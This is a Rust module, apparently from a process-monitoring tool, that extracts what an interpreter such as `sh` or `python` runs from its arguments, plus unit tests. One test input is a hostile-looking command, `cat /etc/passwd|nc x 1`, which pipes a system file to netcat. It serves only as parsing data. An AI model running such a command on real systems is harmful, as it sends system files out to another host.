//! What an interpreter runs: the same `/bin/sh` is another program with every script.

use std::borrow::Cow;

use ethogram_model::Exec;

use crate::subject::{normalise, program::file_name};

/// Arguments that are read.
const MOST: usize = 16;
/// Characters kept of a script or of the first word of a command.
const LONGEST: usize = 128;

/// Whether a program does what its arguments say.
pub(crate) fn is_interpreter(name: &str) -> bool {
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        stem,
        "sh" | "ash" | "bash" | "dash" | "zsh" | "ksh" | "python" | "perl" | "ruby" | "node" | "nodejs" | "php" | "lua"
    )
}

/// Whether a program as profiles name it is an interpreter: `/bin/sh`, `/bin/busybox (sh)`.
pub(crate) fn is_program(label: &str) -> bool {
    let called = label.strip_suffix(')').and_then(|label| label.rsplit_once(" (")).map(|(_, called)| called);
    is_interpreter(called.unwrap_or_else(|| file_name(label)))
}

/// The part of its arguments that says what an interpreter runs: `-c backup`, `-m http.server`, `-e`, `/app/job.py`. None for
/// other programs, and where it reads what to do from elsewhere.
pub(crate) fn of(exec: &Exec) -> Option<String> {
    if !is_interpreter(&exec.name) && !is_interpreter(file_name(&exec.path)) {
        return None;
    }
    let mut args = exec.args.iter().skip(1).take(MOST).map(String::as_str);
    while let Some(arg) = args.next() {
        match arg {
            "-m" => return Some(format!("-m {}", cut(args.next().unwrap_or_default()))),
            // Its first letters can be other options: `-ec`, `-lc`.
            _ if is_option(arg, 'c') => return Some(format!("-c {}", first_word(args.next().unwrap_or_default()))),
            _ if is_option(arg, 'e') || arg == "-E" || arg == "-r" => return Some("-e".to_owned()),
            "-" | "-s" | "-i" => return None,
            _ if arg.starts_with('-') => {}
            script => return Some(cut(&normalise::path(script)).into_owned()),
        }
    }
    None
}

fn is_option(arg: &str, letter: char) -> bool {
    let Some(letters) = arg.strip_prefix('-') else { return false };
    letters.len() <= 4 && letters.ends_with(letter) && letters.chars().all(|c| c.is_ascii_lowercase())
}

/// What a command line runs first: variables that are set before it are not.
fn first_word(command: &str) -> String {
    let is_end = |c: char| c.is_whitespace() || ";|&<>()".contains(c);
    let mut words = command.split(is_end).filter(|word| !word.is_empty());
    let word = words.find(|word| !is_assignment(word)).unwrap_or_default();
    cut(&normalise::path(word)).into_owned()
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=')
        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

fn cut(text: &str) -> Cow<'_, str> {
    match text.char_indices().nth(LONGEST) {
        Some((end, _)) => format!("{}…", &text[..end]).into(),
        None => text.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn template_of(line: &[&str]) -> Option<String> {
        let name = file_name(line[0]).to_owned();
        let args = line.iter().map(|a| (*a).to_owned()).collect();
        of(&Exec { path: line[0].into(), name, args, ..Exec::default() })
    }

    #[test]
    fn what_is_run_is_said() {
        for (line, wanted) in [
            (&["/bin/sh", "-c", "backup --all /srv"][..], Some("-c backup")),
            (&["/bin/sh", "-c", "PATH=/x LC_ALL=C exec /opt/run 12345"], Some("-c exec")),
            (&["/bin/bash", "-ec", "cat /etc/passwd|nc x 1"], Some("-c cat")),
            (&["/bin/sh", "-c", ""], Some("-c ")),
            (&["/bin/sh", "-c"], Some("-c ")),
            (&["/usr/bin/python3.11", "-u", "-m", "http.server", "80"], Some("-m http.server")),
            (&["/usr/bin/python3", "/app/job-20260131.py", "--x"], Some("/app/job-<date>.py")),
            (&["/usr/bin/perl", "-e", "print 1"], Some("-e")),
            (&["/usr/bin/php", "-r", "x();"], Some("-e")),
            (&["/bin/sh"], None),
            (&["/bin/sh", "-i"], None),
            (&["/bin/ls", "-c", "x"], None),
            (&["/usr/bin/shred", "x"], None),
        ] {
            assert_eq!(template_of(line).as_deref(), wanted, "{line:?}");
        }
        assert!(template_of(&["/bin/sh", &"é".repeat(9_999)]).is_some_and(|t| t.chars().count() == LONGEST + 1));
    }
}
